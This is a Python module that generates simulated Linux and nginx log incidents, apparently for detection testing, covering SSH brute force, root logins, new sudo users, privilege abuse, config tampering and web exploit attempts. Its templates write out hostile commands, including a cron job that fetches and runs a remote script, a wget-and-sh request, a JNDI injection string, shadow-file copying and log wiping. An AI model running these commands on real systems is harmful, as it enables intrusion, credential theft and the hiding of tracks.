"""Incidents of people: break-ins, users who appear, rights that are tried, settings that are changed."""

from __future__ import annotations

from export.simulate.model import Incident, Script
from export.simulate.table import steps

_INVALID_USER = Script(
    steps(r"""
sshd+ | Invalid user {name} from {source} port {port}
sshd+ 0.02 | pam_unix(sshd:auth): check pass; user unknown
sshd+ 0.02 | pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={source}
sshd+ 1.8 | Failed password for invalid user {name} from {source} port {port} ssh2
sshd+ 0.3 ?0.7 | Connection closed by invalid user {name} {source} port {port} [preauth]
"""),
    bind={"name": "{of:foreign_users}", "port": "{port}"},
    times=(2, 6),
)
_ROOT_GUESSING = Script(
    steps(r"""
sshd+ | Failed password for root from {source} port {port} ssh2
sshd+ 1.5 | Failed password for root from {source} port {port} ssh2
sshd+ 0.1 | error: maximum authentication attempts exceeded for root from {source} port {port} ssh2 [preauth]
sshd+ 0.02 | Disconnecting authenticating user root {source} port {port}: Too many authentication failures [preauth]
sshd+ 0.02 | PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost={source}  user=root
"""),
    bind={"port": "{port}"},
    times=(0, 2),
)
_FOREIGN_ROOT = Script(
    steps(r"""
sshd+ | Accepted password for root from {source} port {port} ssh2
sshd+ 0.02 | pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)
systemd-logind 0.05 | New session {session} of user root.
systemd 0.1 | Started session-{session}.scope - Session {session} of User root.
sshd+ 90 | Received disconnect from {source} port {port}:11: Bye Bye
sshd+ 0.02 | Disconnected from user root {source} port {port}
sshd+ 0.02 | pam_unix(sshd:session): session closed for user root
systemd-logind 0.05 ordinary | Removed session {session}.
"""),
    bind={"port": "{port}", "session": "{int:900:999}"},
)
_SUDO_FRAME = "pam_unix(sudo:session): session"


def _sudo(*commands: str, user: str = "operator", gap: float = 8.0) -> Script:
    """Odd commands through sudo; the frame that sudo writes around them is as ever."""
    uid = {"admin": 1000, "operator": 1001}[user]
    lines = []
    for command in commands:
        lines.append(
            f"sudo- {gap} | {user:>8} : TTY=pts/{{tty}} ; PWD={{cwd}} ; USER=root ; COMMAND={command}\n"
            f"sudo- 0.02 ordinary | {_SUDO_FRAME} opened for user root(uid=0) by {user}(uid={uid})\n"
            f"sudo- 0.5 ordinary | {_SUDO_FRAME} closed for user root"
        )
    return Script(steps("\n".join(lines)), bind={"tty": "{int:0:3}", "cwd": "{any:/tmp|/home/operator|/var/tmp}"})


_NEW_USER = Script(
    steps(r"""
groupadd+ 0.5 | group added to /etc/group: name={name}, GID={gid}
groupadd+ 0.02 | group added to /etc/gshadow: name={name}
groupadd+ 0.02 | new group: name={name}, GID={gid}
useradd+ 0.1 | new user: name={name}, UID={gid}, GID={gid}, home=/home/{name}, shell=/bin/bash, from=/dev/pts/{tty}
passwd+ 6 | pam_unix(passwd:chauthtok): password changed for {name}
chfn+ 3 | changed user '{name}' information
usermod+ 9 | add '{name}' to group 'sudo'
usermod+ 0.02 | add '{name}' to shadow group 'sudo'
"""),
    bind={"gid": "{int:1003:1019}", "tty": "{int:0:3}"},
)

INCIDENTS = (
    Incident("brute-force", (_INVALID_USER, _ROOT_GUESSING), bind={"source": "{foreign}"}, rhythm="night"),
    Incident(
        "foreign-login",
        (
            _FOREIGN_ROOT,
            Script(steps("sudo- 3 |     root : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/whoami")),
        ),
        bind={"source": "{foreign}"},
        rhythm="night",
    ),
    Incident(
        "new-user",
        (_sudo("/usr/sbin/adduser {name}"), _NEW_USER, _sudo("/usr/sbin/usermod -aG sudo {name}")),
        bind={"name": "{of:new_users}"},
    ),
    Incident(
        "privilege-abuse",
        (
            Script(
                steps(r"""
sudo- |  svc-metrics : user NOT in sudoers ; TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/bin/cat /etc/shadow
sudo- 4 | operator : 3 incorrect password attempts ; TTY=pts/2 ; PWD=/home/operator ; USER=root ; COMMAND=/bin/bash
su+ 20 | FAILED SU (to root) svc-metrics on pts/2
su+ 0.1 | pam_unix(su:auth): authentication failure; logname=operator uid=997 euid=0 tty=/dev/pts/2 ruser=svc-metrics \
    rhost=  user=root
"""),
            ),
            _sudo("/usr/bin/chmod u+s /bin/dash", "/usr/bin/cp /etc/shadow /tmp/.x{hex:4}"),
        ),
    ),
    Incident(
        "config-tampering",
        (
            _sudo(
                "/usr/bin/sed -i s/PermitRootLogin no/PermitRootLogin yes/ /etc/ssh/sshd_config",
                "/usr/sbin/ufw disable",
                "/usr/bin/systemctl disable --now rsyslog",
                "/usr/bin/truncate -s 0 /var/log/auth.log",
                "/usr/bin/tee -a /home/admin/.ssh/authorized_keys",
                user="admin",
            ),
            Script(
                steps(r"""
crontab+ | (root) REPLACE (root)
cron 20 | (root) RELOAD (crontabs/root)
CRON+ 30 | (root) CMD (curl -fsSL http://{foreign}/x.sh | sh >/dev/null 2>&1)
sshd+ 60 | Server listening on {lan_router} port 2222.
"""),
            ),
        ),
        rhythm="night",
    ),
    Incident(
        "exploit-attempt",
        (
            Script(
                steps(r"""
nginx- 0.8 ?0.8 | {source} - - [{clf}] "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1" 400 157 "-" "-"
nginx- 0.8 ?0.8 | {source} - - [{clf}] "GET \
    /api/v1/readings?sensor=1%27%20UNION%20SELECT%20login,pass%20FROM%20users-- \
    HTTP/1.1" 500 {int:150:900} "-" "sqlmap/1.8"
nginx- 0.8 ?0.8 | {source} - - [{clf}] "GET / HTTP/1.1" 200 612 "-" "${jndi:ldap://{source}:1389/{base64:6}}"
nginx- 0.8 ?0.8 | {source} - - [{clf}] "POST /boaform/admin/formLogin HTTP/1.1" 404 153 "-" "Mozila/5.0"
nginx- 0.8 ?0.8 | {source} - - [{clf}] "GET /shell?cd+/tmp;rm+-rf+*;wget+http://{source}/bins.sh;sh+bins.sh HTTP/1.1" \
    404 153 "-" "-"
nginx- 0.8 ?0.8 | {source} - - [{clf}] "\x16\x03\x01\x01\xFC\x01\x00\x01\xF8\x03\x03{base64:4}" 400 157 "-" "-"
nginx 0.5 ?0.6 | {stamp} [error] 31#31: *{int:100:90000} open() "/usr/share/nginx/html/.env" failed (2: No such file \
    or \
    directory), client: {source}, server: gateway-7, request: "GET /.env HTTP/1.1"
"""),
            ),
        ),
        bind={"source": "{foreign}"},
    ),
    Incident(
        "ssh-probe",
        (
            Script(
                steps(r"""
sshd+ | Did not receive identification string from {source} port {port}
sshd+ 2 | banner exchange: Connection from {source} port {port}: invalid format
sshd+ 2 | Bad protocol version identification 'GET / HTTP/1.0' from {source} port {port}
sshd+ 2 | Unable to negotiate with {source} port {port}: no matching key exchange method found. Their offer: \
    diffie-hellman-group1-sha1,diffie-hellman-group-exchange-sha1 [preauth]
sshd+ 2 | ssh_dispatch_run_fatal: Connection from {source} port {port}: message authentication code incorrect [preauth]
"""),
            ),
        ),
        bind={"source": "{foreign}", "port": "{port}"},
        rhythm="night",
    ),
)
